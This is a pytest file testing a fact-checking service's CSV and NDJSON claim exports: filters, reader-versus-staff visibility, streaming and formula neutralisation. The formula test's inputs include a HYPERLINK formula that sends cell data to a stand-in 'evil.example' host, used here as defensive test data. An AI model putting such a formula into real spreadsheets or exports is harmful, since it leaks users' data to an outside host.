"""Claim exports (GET /api/v1/claims.csv and .ndjson): the list's filters and visibility over
every matching claim, streamed in batches from one snapshot; CSV that a spreadsheet opens as
it is and never runs as a formula."""

import csv
import io
import json
import os

import pytest
import requests

from tests import served
from tests.conftest import assert_field_error, assert_problem, quote
from tests.paging import every_item
from tests.seed_data import PUBLISHED, claim_count

FORMATS = ("csv", "ndjson")
STAFF_COLUMNS = {"assignee", "verdict_author", "draft_rating", "draft_author", "draft_revision"}


def rows_of_csv(body):
    """The CSV's rows as dicts by header (the body must open with a BOM)."""
    text = body.decode("utf-8")
    assert text.startswith("\ufeff"), text[:20]
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def exported(client, fmt, **query):
    """The export's rows (CSV: dicts of strings; NDJSON: the JSON objects)."""
    response = client.get(f"/api/v1/claims.{fmt}", query_string=query)
    assert response.status_code == 200, response.get_data(as_text=True)
    if fmt == "csv":
        return rows_of_csv(response.get_data())
    return [json.loads(line) for line in response.get_data(as_text=True).splitlines()]


def exported_ids(client, fmt, **query):
    return [int(row["id"]) for row in exported(client, fmt, **query)]


@pytest.fixture
def small_batches(app):
    """Exports read 5 claims per query, so the seed's claims take several batches."""
    app.config["EXPORT_BATCH"] = 5
    return app


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    "query",
    [
        {},
        {"status": "published"},
        {"status": "new"},
        {"tag": "personnel"},
        {"claimant": "DONALD TRUMP"},
        {"article_id": 1},
        {"q": "Krebs"},
        {"q": "Krebs", "sort": "-created_at"},
        {"rating": "true"},
        {"bucket": "mixed"},
        {"updated_since": "2000-01-01"},
        {"updated_since": "2999-01-01"},
        {"sort": "created_at"},
        {"sort": "-updated_at"},
        {"sort": "position", "article_id": 1},
        {"tag": "cisa", "sort": "claim_date"},
    ],
)
def test_an_export_holds_what_the_list_filters_find_in_its_order(
    seeded, small_batches, client, anon, fmt, query
):
    for caller in (anon, client):
        listed = [item["id"] for item in every_item(caller, "/api/v1/claims", limit=3, **query)]
        assert exported_ids(caller, fmt, **query) == listed, (caller, query)


def test_filters_change_what_is_exported(seeded, client, anon, db):
    """The table above compares with the list; this says the list is not trivially the same."""
    assert len(exported_ids(client, "csv")) == claim_count(db)
    assert len(exported_ids(anon, "csv")) == len(PUBLISHED) < claim_count(db)
    assert exported_ids(anon, "csv", status="new") == []
    assert 0 < len(exported_ids(anon, "ndjson", tag="personnel")) < len(PUBLISHED)


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"limit": "5"}, "limit"),
        ({"cursor": "abc"}, "cursor"),
        ({"format": "csv"}, "format"),
        ({"status": "bogus"}, "status"),
        ({"rating": "False"}, "rating"),
        ({"sort": "relevance"}, "sort"),
        ({"sort": "position"}, "sort"),
        ({"q": "!!!"}, "q"),
        ({"updated_since": "yesterday"}, "updated_since"),
    ],
)
def test_unknown_or_invalid_parameters_are_422_before_anything_streams(
    seeded, anon, fmt, query, field
):
    response = anon.get(f"/api/v1/claims.{fmt}", query_string=query)
    body = assert_problem(response, 422)
    assert field in body["errors"], body


def test_readers_get_published_claims_and_reader_fields_only(seeded, client, anon, as_user):
    # A draft on a published claim (a correction in progress) must not reach readers.
    eve = as_user("eve")
    assert eve.post("/api/v1/claims/1/transitions", json={"to": "in_research"}).status_code == 200
    verdict = {"rating": "false", "explanation": "Corrected draft.", "source_ids": []}
    assert eve.post("/api/v1/claims/1/verdicts", json=verdict).status_code == 201

    for caller, staff in ((anon, False), (client, True)):
        listed = every_item(caller, "/api/v1/claims", limit=100)
        lines = exported(caller, "ndjson")
        assert lines == listed  # the same objects, field for field
        assert all(("assignee" in line) == staff for line in lines)
        header = set(exported(caller, "csv")[0])
        assert (STAFF_COLUMNS & header) == (STAFF_COLUMNS if staff else set())
    reader_rows = exported(anon, "csv")
    assert {row["status"] for row in reader_rows} == {"published"}
    first = next(row for row in reader_rows if row["id"] == "1")
    assert first["verdict_rating"] == "true"  # the published verdict, not the draft
    assert "Corrected draft." not in json.dumps(reader_rows)
    staff_first = next(row for row in exported(client, "csv") if row["id"] == "1")
    assert staff_first["draft_explanation"] == "Corrected draft."
    assert staff_first["status"] == "in_research"


def test_csv_opens_as_a_spreadsheet_expects(seeded, anon):
    response = anon.get("/api/v1/claims.csv", query_string={"sort": "created_at"})
    assert response.mimetype == "text/csv"
    assert response.mimetype_params == {"charset": "utf-8", "header": "present"}
    assert response.headers["Content-Disposition"] == 'attachment; filename="claims.csv"'
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbfid,article_id,status,text,")
    assert body.endswith(b"\r\n") and body.count(b"\n") == body.count(b"\r\n")
    row = rows_of_csv(body)[0]
    claim = anon.get("/api/v1/claims/1").json
    assert row["text"] == claim["text"] and row["tags"] == "; ".join(claim["tags"])
    assert row["verdict_source_ids"] == "; ".join(map(str, claim["verdict"]["source_ids"]))
    assert row["verdict_published_at"] == claim["verdict"]["published_at"]
    assert row["span_start"] == str(claim["span_start"])


@pytest.mark.parametrize(
    ("claimant", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("https://evil.example/?"&A1,"Click")', "'=HYPERLINK("),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("Mayor = chair", "Mayor = chair"),
        ("'Quoted' Ana", "'Quoted' Ana"),
        ('Ana "the mayor", Díaz', 'Ana "the mayor", Díaz'),
        ("市長 «Ана» \u2013 Žofie", "市長 «Ана» \u2013 Žofie"),
    ],
)
def test_formula_like_cells_are_neutralised(client, article, claimant, cell):
    claim = {**quote("The mayor said"), "claimant": claimant, "article_id": article["id"]}
    assert client.post("/api/v1/claims", json=claim).status_code == 201
    (row,) = exported(client, "csv")
    assert row["claimant"].startswith(cell)
    assert row["claimant"] in (claimant, "'" + claimant)
    (line,) = exported(client, "ndjson")
    assert line["claimant"] == claimant  # NDJSON is data, not a spreadsheet: unchanged


def streamed_chunks(client, url):
    response = client.get(url, buffered=False)
    assert response.status_code == 200
    return response, iter(response.response)


def test_an_export_streams_one_batch_per_chunk_from_one_snapshot(seeded, app, client, db):
    app.config["EXPORT_BATCH"] = 2
    response, chunks = streamed_chunks(client, "/api/v1/claims.csv?sort=-created_at")
    header, first_batch = next(chunks), next(chunks)
    assert header.startswith(b"\xef\xbb\xbfid,") and header.count(b"\r\n") == 1
    assert first_batch.count(b"\r\n") == 2
    # Another connection changes a claim the export has not reached yet.
    db.execute("UPDATE claims SET claimant = 'Changed meanwhile' WHERE id = 1")
    rest = list(chunks)
    response.close()
    count = claim_count(db)
    assert len(rest) == (count + 1) // 2 - 1  # 2 a batch, the first read above
    rows = rows_of_csv(header + first_batch + b"".join(rest))
    assert [int(row["id"]) for row in rows] == list(range(count, 0, -1))
    assert rows[-1]["claimant"] == "The article (publisher unknown)"
    assert exported(client, "csv", sort="created_at")[0]["claimant"] == "Changed meanwhile"


def test_an_abandoned_export_leaves_the_connection_usable(seeded, app, client):
    app.config["EXPORT_BATCH"] = 2
    response, chunks = streamed_chunks(client, "/api/v1/claims.ndjson")
    next(chunks)
    response.close()  # the client went away mid-download
    changed = client.patch("/api/v1/claims/6", json={"claimant": "After the download"})
    assert changed.status_code == 200, changed.json
    [row] = [row for row in exported(client, "ndjson", status="new") if row["id"] == 6]
    assert row["claimant"] == "After the download"


def test_routes_do_not_collide_with_claim_ids(seeded, anon):
    assert anon.get("/api/v1/claims/1").status_code == 200
    for path in ("/api/v1/claims/csv", "/api/v1/claims.json", "/api/v1/claims/1.csv"):
        assert_problem(anon.get(path), 404)
    assert_problem(anon.post("/api/v1/claims.csv", json={}), 405)


def test_openapi_documents_both_exports_with_their_media_types(client):
    spec = client.get("/openapi.json").json
    names = {p["name"] for p in spec["paths"]["/api/v1/claims"]["get"]["parameters"]}
    for fmt, media_type, operation_id in (
        ("csv", "text/csv", "exportClaimsCsv"),
        ("ndjson", "application/x-ndjson", "exportClaimsNdjson"),
    ):
        operation = spec["paths"][f"/api/v1/claims.{fmt}"]["get"]
        assert operation["operationId"] == operation_id
        assert list(operation["responses"]["200"]["content"]) == [media_type]
        assert {p["name"] for p in operation["parameters"]} == names - {"limit", "cursor"}
        assert "422" in operation["responses"]


@pytest.fixture
def gunicorn(db_path, keys):
    """The service under real gunicorn (one process, one thread, so requests share its
    connection) on this test's database, exporting 3 claims a batch and streaming every
    answer longer than a byte (exports of the seed are short)."""
    env = {
        **os.environ,
        "FACTCHECK_DATABASE": str(db_path),
        "FACTCHECK_CONTROL_SOCKET": "",
        "FACTCHECK_WORKERS": "1",
        "FACTCHECK_THREADS": "1",
        "FACTCHECK_EXPORT_BATCH": "3",
        "FACTCHECK_STREAM_AFTER": "1",
    }
    process, base = served.start(env, db_path.parent)
    try:
        yield base
    finally:
        served.stop(process)


def test_gunicorn_streams_exports_chunked(seeded, gunicorn, keys):
    admin = {"Authorization": f"Bearer {keys['ada']}"}
    with requests.get(f"{gunicorn}/api/v1/claims.csv", stream=True, timeout=10) as response:
        assert response.status_code == 200
        assert response.headers["Transfer-Encoding"] == "chunked"
        assert "Content-Length" not in response.headers
        reader_ids = [int(row["id"]) for row in rows_of_csv(response.content)]
    listed = requests.get(f"{gunicorn}/api/v1/claims?limit=100", timeout=10).json()["items"]
    assert reader_ids == [item["id"] for item in listed] and len(reader_ids) == len(PUBLISHED)
    # A download abandoned after its first chunk: the next requests on the same (only)
    # thread write, and read what was written.
    download = f"{gunicorn}/api/v1/claims.ndjson"
    with requests.get(download, headers=admin, stream=True, timeout=10) as gone:
        next(gone.iter_content(64))
    patched = requests.patch(
        f"{gunicorn}/api/v1/claims/6", json={"claimant": "Later"}, headers=admin, timeout=10
    )
    assert patched.status_code == 200, patched.text
    lines = requests.get(
        f"{gunicorn}/api/v1/claims.ndjson", params={"status": "new"}, headers=admin, timeout=10
    ).text.splitlines()
    claimants = {claim["id"]: claim["claimant"] for claim in map(json.loads, lines)}
    assert claimants[6] == "Later"


def test_an_empty_export_is_a_header_or_nothing(client):
    assert exported(client, "ndjson") == []
    body = client.get("/api/v1/claims.csv").get_data()
    assert body.startswith(b"\xef\xbb\xbfid,") and body.count(b"\r\n") == 1
    assert_field_error(assert_problem(client.get("/api/v1/claims.csv?x=1"), 422), "x", "Unknown")
